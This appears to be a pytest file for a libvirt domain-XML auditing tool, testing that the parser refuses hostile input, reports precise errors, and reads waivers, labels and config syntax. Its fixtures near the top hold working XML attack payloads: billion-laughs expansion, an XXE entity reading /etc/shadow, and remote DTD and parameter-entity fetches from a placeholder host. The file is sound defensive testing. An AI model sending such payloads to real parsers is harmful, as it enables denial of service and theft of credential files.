"""Hostile and odd domain XML: each gets a precise error naming the input, never an exception, and
nothing is fetched or expanded; config-file syntax."""

from __future__ import annotations

import datetime as dt

import pytest

from guestward.audit.catalogue import load_catalogue
from guestward.audit.engine import audit, parse_domains
from guestward.audit.facts import MAX_XML_BYTES, FactError, parse_conf, parse_domain, parse_domain_docs
from guestward.audit.model import Status

GOOD = "<domain type='kvm'><name>ok</name><devices><hostdev mode='subsystem' type='pci'/></devices></domain>"
BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>
<domain type='kvm'><name>&lol3;</name></domain>"""
XXE = """<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/shadow">]><domain><name>&x;</name></domain>"""
REMOTE_DTD = """<?xml version="1.0"?><!DOCTYPE domain SYSTEM "http://192.0.2.1/evil.dtd"><domain><name>x</name></domain>"""
PARAM_ENTITY = """<?xml version="1.0"?><!DOCTYPE d [<!ENTITY % p SYSTEM "http://192.0.2.1/p.dtd"> %p;]><domain/>"""


@pytest.mark.parametrize(("data", "expect"), [
    (BILLION_LAUGHS, "refused"), (XXE, "refused"), (REMOTE_DTD, "refused"), (PARAM_ENTITY, "refused"),
    ("<domain><name>x</name>", "malformed XML"), ("", "malformed XML"), ("\x00\x01garbage", "malformed XML"),
    ("<network><name>n</name></network>", "root element is <network>"),
    (b"\xff\xfe<\x00d\x00", "XML"),
])
def test_hostile_or_broken_input_is_a_precise_error(data: str | bytes, expect: str) -> None:
    with pytest.raises(FactError, match=expect) as exc:
        parse_domain(data, "evil.xml")
    assert str(exc.value).startswith("evil.xml: ")


def test_oversized_document_is_refused_before_parsing() -> None:
    with pytest.raises(FactError, match="larger than 4 MiB"):
        parse_domain("<domain>" + " " * MAX_XML_BYTES + "</domain>", "big.xml")


def test_one_bad_input_does_not_stop_the_audit_of_the_others() -> None:
    docs = [("a.xml", GOOD, "file"), ("evil.xml", BILLION_LAUGHS, "file"), ("b.xml", GOOD.replace("ok", "ok2"), "file")]
    domains, errors = parse_domains(docs)
    assert [d.name for d in domains] == ["ok", "ok2"] and [e.source for e in errors] == ["evil.xml"]
    report = audit(load_catalogue(), domains, today=dt.date(2026, 12, 1), errors=errors)
    assert {r.subject for r in report.results if r.check == "LVD-040" and r.status is Status.failed} == {
        d.subject for d in domains}
    assert not [r for r in report.results if r.status is Status.error]


def test_several_documents_in_one_file_and_test_driver_nodes() -> None:
    two = GOOD + "\n" + GOOD.replace("ok", "again")
    assert [(d.name, d.source) for d in parse_domain_docs(two, "f.xml")] == [("ok", "f.xml#1"), ("again", "f.xml#2")]
    node = f"<node><network><name>n</name></network>{GOOD}</node>"
    assert [d.name for d in parse_domain_docs(node, "t.xml")] == ["ok"]
    status = "<domstatus state='running'><domain type='kvm'><name>live</name></domain></domstatus>"
    assert parse_domain(status, "s.xml").name == "live"


def test_waivers_and_labels_in_metadata_are_read() -> None:
    d = parse_domain("""<domain><name>g</name><metadata><gw:guest xmlns:gw="https://guestward.dev/xmlns/1">
      <gw:label key="trust">untrusted</gw:label>
      <gw:waiver check="LVD-040" expires="2027-01-31">GPU, IOMMU checked</gw:waiver>
      </gw:guest></metadata></domain>""", "g")
    assert d.labels == {"trust": "untrusted"}
    assert [(w.check, w.expires, w.reason) for w in d.waivers] == [("LVD-040", "2027-01-31", "GPU, IOMMU checked")]


def test_libvirt_conf_syntax() -> None:
    text = '''# comment
user = "libvirt-qemu"   # trailing comment
seccomp_sandbox = 0
cgroup_device_acl = [
    "/dev/null", "/dev/full",
    "/dev/kvm"
]
vnc_listen = "0.0.0.0"
'''
    assert parse_conf(text) == {"user": "libvirt-qemu", "seccomp_sandbox": 0, "vnc_listen": "0.0.0.0",
                                "cgroup_device_acl": ["/dev/null", "/dev/full", "/dev/kvm"]}
    for bad, where in (('user = \n', "bad value|expected"), ('x = [ "a", 3 ]\n', ":1:"), ('= 3\n', ":1:"),
                       ('a = 1\nb = [ "x"\n', "not closed")):
        with pytest.raises(FactError, match=where):
            parse_conf(bad, "qemu.conf")


def test_in_xml_waivers_survive_a_label_rewrite() -> None:
    """`guestward label` rewrites <gw:guest> through metadata_xml: the waivers must come along."""
    from guestward.hypervisor.domain_xml import guest_element, metadata_waivers, metadata_xml

    xml = """<domain><name>g</name><metadata><gw:guest xmlns:gw="https://guestward.dev/xmlns/1">
      <gw:label key="a">b</gw:label><gw:waiver check="LVD-040" expires="2027-01-31">GPU &amp; IOMMU</gw:waiver>
      </gw:guest></metadata></domain>"""
    kept = metadata_waivers(guest_element(xml))
    body = metadata_xml({"a": "c"}, [], waivers=kept)
    d = parse_domain(f"<domain><name>g</name><metadata>{body}</metadata></domain>", "g")
    assert d.labels == {"a": "c"} and [(w.check, w.reason) for w in d.waivers] == [("LVD-040", "GPU & IOMMU")]
